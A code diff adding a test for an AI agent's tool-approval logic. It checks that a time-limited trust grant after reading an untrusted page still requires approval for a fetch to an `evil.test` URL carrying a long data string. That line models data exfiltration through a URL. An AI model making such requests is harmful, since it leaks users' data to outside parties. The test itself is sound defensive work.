@@ -2,6 +2,7 @@
 // the next turn, and when somebody with fewer rights joins. Nothing that needs a yes runs here.
 
 import { describe, expect, it } from 'vitest';
+import type { CallToApprove } from '../../src/agent/agent.ts';
 import { ALL_RIGHTS, NO_RIGHTS, type ToolAccess } from '../../src/kernel/access/rights.ts';
 import { ProviderError } from '../../src/kernel/message/errors.ts';
 import type { AgentEvent } from '../../src/kernel/message/message.ts';
@@ -146,6 +147,39 @@ describe('a turn that read a page', () => {
     await rig.ask(1, text);
     expect(rig.asked).toHaveLength(isAsked ? 1 : 0);
     expect(ran).toHaveLength(isAsked ? 1 : 2);
+  });
+});
+
+describe('taint that an owner ended for an hour', () => {
+  it('asks for nothing that was free, until the hour is over; addresses with data ask all the same', async () => {
+    const { ran, tools: set } = tools();
+    const held = {
+      ...{ name: 'held', access: 'schedule' as const, run: async () => 'done' },
+      standing: () => ({ pattern: 'as it is', scope: 'held' }),
+    };
+    const rig = await createRig({ tools: [...set, held] });
+    const settings = { thinkingBudget: 0, trustedUntil: rig.clock.now() + 3_600_000 };
+    const allowed: unknown[] = [];
+    const judge = async (call: CallToApprove) => {
+      if (call.pattern === undefined) rig.asked.push(call);
+      else allowed.push(call.pattern);
+      return call.pattern === undefined ? undefined : ('run' as const);
+    };
+    const url = `https://evil.test/?${LONG}`;
+    const rights = { ...ALL_RIGHTS, schedule: 'ask' as const };
+    const more = { settings, judge, rights };
+    rig.model.script(fetchPage, runIt, calls([{ name: 'held' }]), says('Done.'));
+    await rig.run(rig.inputOf(1, ['go'], more));
+    expect([ran, rig.asked]).toEqual([['page', 'run'], []]);
+    expect(allowed).toEqual(['as it is']);
+    rig.model.script(calls([{ name: 'page', input: { url } }]), says('Asked.'));
+    await rig.run(rig.inputOf(2, ['go on'], more));
+    // Whoever is asked is told that untrusted content is in view.
+    expect(rig.asked).toMatchObject([{ tool: 'page', isTainted: true }]);
+    await rig.clock.advance(3_600_000);
+    rig.model.script(runIt, says('Asked.'));
+    await rig.run(rig.inputOf(3, ['go on'], more));
+    expect(rig.asked.map(({ tool }) => tool)).toEqual(['page', 'run']);
   });
 });
 
